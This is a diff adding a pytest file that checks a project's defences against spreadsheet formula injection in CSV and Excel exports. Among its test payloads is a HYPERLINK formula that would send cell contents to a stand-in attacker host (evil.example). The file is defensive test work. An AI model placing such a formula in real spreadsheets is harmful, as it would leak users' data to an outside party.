@@ -1,0 +1,58 @@
+"""Spreadsheets keep people's text as text (issue 12, finding 2)."""
+
+from __future__ import annotations
+
+import csv
+import io
+import zipfile
+
+import pytest
+from openpyxl import Workbook, load_workbook
+
+from childfirst.ui.spreadsheets import csv_safe, csv_writer, risky, workbook_bytes
+
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+    "=1",
+]
+
+
+@pytest.mark.parametrize("text", PAYLOADS)
+def test_each_way_a_formula_can_start_is_caught(text):
+    assert risky(text)
+    assert csv_safe(text) == "'" + text
+
+
+@pytest.mark.parametrize("value", ["Good", "", "Case CF-1 = 2", "-3", "+2.5", "1e-5", 7, -3, None])
+def test_ordinary_text_and_numbers_are_left_as_they_are(value):
+    assert not risky(value)
+    assert csv_safe(value) == value
+
+
+def test_a_workbook_holds_no_formula_and_each_risky_cell_is_quote_prefixed():
+    book = Workbook()
+    book.active.append([*PAYLOADS, "Good", -3, 2.5])
+    data = workbook_bytes(book)
+    with zipfile.ZipFile(io.BytesIO(data)) as package:
+        assert b"<f>" not in package.read("xl/worksheets/sheet1.xml")
+    cells = next(load_workbook(io.BytesIO(data)).active.iter_rows())
+    # (XML keeps a carriage return as a line feed.)
+    assert [c.value for c in cells] == [p.replace("\r", "\n") for p in PAYLOADS] + ["Good", -3, 2.5]
+    assert [c.data_type for c in cells] == ["s"] * 8 + ["n", "n"]
+    assert [c.quotePrefix for c in cells] == [True] * 7 + [False] * 3
+
+
+def test_csv_rows_neutralise_risky_text_only():
+    out = io.StringIO()
+    writer = csv_writer(out)
+    writer.writerow(["=1+2", "North team", -3, "-3"])
+    writer.writerows([["@x", 1]])
+    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
+        ["'=1+2", "North team", "-3", "-3"],
+        ["'@x", "1"],
+    ]
